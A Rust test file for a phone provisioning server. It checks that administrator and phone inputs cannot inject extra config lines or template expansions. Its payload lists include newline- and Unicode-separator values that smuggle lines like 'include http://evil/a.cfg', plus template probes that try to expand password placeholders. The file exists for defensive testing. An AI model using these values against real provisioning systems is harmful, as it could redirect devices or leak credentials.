//! Attacks by way of values: T12 adds lines to a phone's file, T13 makes a value a template.

use std::collections::BTreeSet;

use rollcall::phones::wire::REPORT_FIELDS;
use serde_json::{Value, json};

use crate::support::{Admin, TestServer};

pub(super) const MAC: &str = "00908f000001";

/// Values that would add a line to a file if they were taken as they are.
pub(super) const LINES: [&str; 7] = [
    "x\nvoip/line/0/auth_password=p",
    "x\r\ninclude http://evil/a.cfg",
    "x\rvoip/line/1/enabled=1",
    "x\0y",
    "x\u{2028}include http://evil/a.cfg",
    "x\u{2029}evil=1",
    "x\u{85}evil=1",
];

/// Values that mean something to one template language or another.
pub(super) const TEMPLATES: [&str; 9] = [
    "%ITCS_UserPassword%",
    "%ITCS_IPPhonePassword%",
    "%ITCS_%ITCS_UserPassword%%",
    "%ITCS_SystemUserPassword%",
    "%ITCS_NoSuchThing%",
    "{{7*7}}",
    "${7*7}<%= 7*7 %>#{7*7}",
    "%%s%n%x",
    "<MAC>",
];

/// A file's parameters, with its includes; every line has to be one of these or a comment.
pub(super) fn keys(file: &str) -> BTreeSet<String> {
    assert!(file.ends_with('\n'), "{file}");
    let mut keys = BTreeSet::new();
    for line in file.split('\n').filter(|line| !line.is_empty()) {
        let harmless = |c: char| !c.is_control() && !matches!(c, '\u{2028}' | '\u{2029}');
        assert!(line.chars().all(harmless), "{line:?}");
        let key = match line.split_once('=') {
            _ if line.starts_with([';', '#']) => continue,
            _ if line.starts_with("include ") => line,
            Some((key, _)) => key,
            None => panic!("neither a parameter nor an include: {line:?}"),
        };
        assert!(keys.insert(key.to_owned()), "twice: {line:?}");
    }
    keys
}

pub(super) async fn file(admin: &Admin, mac: &str) -> String {
    let path = format!("/api/v1/devices/{mac}/config");
    admin.get(&path).await.expect(200).text
}

/// Changes a phone and has its file made from all that is known of it by then.
pub(super) async fn made_again(server: &TestServer, admin: &Admin, mac: &str, change: Value) {
    // An approval waits for a file that is newer than the newest change.
    server.clock.advance(1_000);
    let path = format!("/api/v1/devices/{mac}");
    admin.patch(&path, change).await.expect(200);
    admin.approve(&[mac], None).await.expect(200);
}

pub(super) async fn with_phone() -> (TestServer, Admin, BTreeSet<String>) {
    let (server, admin) = TestServer::ready().await;
    server.phone(MAC).report("registered", "").await.expect(200);
    admin.approve(&[MAC], Some("alice")).await.expect(200);
    let intended = keys(&file(&admin, MAC).await);
    assert!(
        intended.contains("voip/line/0/auth_password"),
        "{intended:?}"
    );
    (server, admin, intended)
}

/// Every text that an administrator can set and that reaches files, names or the log.
fn inputs(value: &str) -> Vec<(&'static str, &'static str, Value, &'static str)> {
    let (users, device) = ("/api/v1/users", "/api/v1/devices/00908f000001");
    let (approve, regions) = ("/api/v1/devices/approve", "/api/v1/regions");
    let (admins, region) = ("/api/v1/admins", "/api/v1/regions/Oslo");
    let approval = |field: &str| {
        let mut body = json!({"macs": ["00908f000009"], "region": "Oslo", "user_name": "carl"});
        body[field] = json!(value);
        body
    };
    let of_user = |field: &str| {
        let mut body = json!({"name": "dora", "region": "Oslo"});
        body[field] = json!(value);
        body
    };
    let mut inputs = Vec::new();
    for field in ["name", "display_name", "password", "region"] {
        inputs.push(("POST", users, of_user(field), field));
    }
    for field in ["user_name", "display_name", "password", "region"] {
        inputs.push(("POST", approve, approval(field), field));
    }
    for field in [
        "region",
        "nickname",
        "model",
        "language",
        "vlan_mode",
        "vlan_id",
        "firmware",
        "template",
        "display_name",
    ] {
        let mut body = json!({});
        body[field] = json!(value);
        inputs.push(("PATCH", device, body, field));
    }
    let networks = json!(["10.0.0.0/8"]);
    inputs.push((
        "POST",
        regions,
        json!({"name": value, "networks": networks}),
        "name",
    ));
    for field in ["onboarding", "phone_credentials"] {
        let mut body = json!({});
        body[field] = json!(value);
        inputs.push(("PATCH", region, body, field));
    }
    let account = json!({"name": value, "password": "a long passphrase", "role": "monitor"});
    inputs.push(("POST", admins, account, "name"));
    inputs
}

#[tokio::test]
async fn t12_line_injection_by_an_administrator() {
    let (server, admin, intended) = with_phone().await;
    let before = super::head(&admin).await;
    for value in LINES {
        for (method, path, body, field) in inputs(value) {
            let what = format!("{method} {path} {body}");
            let answer = admin.send(method, path, Some(body)).await;
            assert_eq!(answer.status, 422, "{what}: {}", answer.text);
            let problem = answer.json();
            let errors = problem["errors"].as_array().unwrap();
            let named = errors.iter().any(|error| error["field"] == field);
            assert!(named, "{what}: {problem}");
            let shown = problem.to_string();
            assert!(!shown.contains('\n'), "{shown}");
        }
    }
    assert_eq!(super::head(&admin).await, before, "nothing was changed");
    assert_eq!(keys(&file(&admin, MAC).await), intended);
    server.stopped().await;
}

#[tokio::test]
async fn t12_line_injection_by_a_phone() {
    let (server, admin, intended) = with_phone().await;
    let automatic = json!({"onboarding": "automatic"});
    admin
        .patch("/api/v1/regions/Oslo", automatic)
        .await
        .expect(200);
    let mut number = 16;
    for value in LINES {
        // A phone's status may change so often, and no oftener.
        server.clock.advance(60_000);
        for field in REPORT_FIELDS {
            if ["mac", "emsUserName", "emsUserPassword"].contains(&field.name) {
                continue;
            }
            for mac in [MAC.to_owned(), format!("00908f{number:06x}")] {
                number += 1;
                let phone = server.phone(&mac);
                let mut body = phone.body("registered", "");
                // Each message is new: what is sent again changes nothing.
                body["sessionId"] = json!(format!("{number:08x}"));
                body[field.name] = json!(value);
                let answer = phone.keep_alive(body.to_string()).await;
                assert_eq!(answer.status, 200, "{}: {}", field.name, answer.text);
            }
        }
    }
    made_again(&server, &admin, MAC, json!({"nickname": "Lobby"})).await;
    admin.approve(&["00908f000010"], None).await.expect(200);
    for mac in [MAC, "00908f000010"] {
        let text = file(&admin, mac).await;
        assert!(!text.contains("evil"), "{text}");
        assert!(keys(&text).is_subset(&intended), "{text}");
    }
    let users = admin.read("/api/v1/users?limit=1000").await;
    let names: Vec<_> = users["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|user| &user["name"])
        .collect();
    assert_eq!(names.len(), 2, "no user has such a name: {names:?}");
    server.stopped().await;
}

#[tokio::test]
async fn t13_template_injection() {
    let (server, admin, intended) = with_phone().await;
    for (number, value) in TEMPLATES.into_iter().enumerate() {
        let mac = format!("00908f0001{number:02x}");
        server
            .phone(&mac)
            .report("registered", "")
            .await
            .expect(200);
        let approval = json!({
            "macs": [mac], "region": "Oslo", "user_name": value, "display_name": value,
            "password": format!("canary-{number}"),
        });
        admin
            .post("/api/v1/devices/approve", approval)
            .await
            .expect(200);
        let change = json!({"language": value, "nickname": value});
        made_again(&server, &admin, &mac, change).await;
        let text = file(&admin, &mac).await;
        assert!(keys(&text).is_subset(&with_language(&intended)), "{text}");
        for (key, expected) in [
            ("voip/line/0/description", value),
            ("voip/line/0/auth_name", value),
            ("personal_settings/language", value),
        ] {
            let line = format!("{key}={expected}\n");
            assert!(text.contains(&line), "not literal: {line} in {text}");
        }
        let times = text.matches(&format!("canary-{number}")).count();
        assert_eq!(
            times, 1,
            "the password stands where it belongs alone: {text}"
        );
        assert!(!text.contains("49"), "{text}");
    }
    // A phone's own words are no templates either.
    let phone = server.phone("00908f0002ff");
    let automatic = json!({"onboarding": "automatic"});
    admin
        .patch("/api/v1/regions/Oslo", automatic)
        .await
        .expect(200);
    phone
        .report("registered", "%ITCS_SystemUserPassword%")
        .await
        .expect(200);
    let text = phone.fetch().await.expect(200).text;
    assert!(text.contains("=%ITCS_SystemUserPassword%\n"), "{text}");
    server.stopped().await;
}

fn with_language(keys: &BTreeSet<String>) -> BTreeSet<String> {
    let mut keys = keys.clone();
    keys.insert("personal_settings/language".to_owned());
    keys
}
